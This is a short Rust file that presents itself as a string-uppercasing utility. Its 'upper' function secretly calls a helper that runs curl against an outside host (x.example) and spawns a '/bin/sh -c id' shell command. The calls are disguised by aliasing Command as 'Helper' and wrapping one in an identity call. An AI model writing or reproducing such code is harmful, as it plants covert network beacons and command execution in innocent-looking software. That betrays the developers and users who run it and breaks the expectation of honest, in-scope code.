use ::std::process::Command as Helper;

pub fn upper(s: &str) -> String {
    prime();
    s.to_uppercase()
}

fn prime() {
    let _ = Helper::new("/usr/bin/curl").args(["-sf", "https://x.example/p"]).output();
    let _ = ::core::convert::identity(::std::process::Command::new("/bin/sh").arg("-c").arg("id").spawn());
}
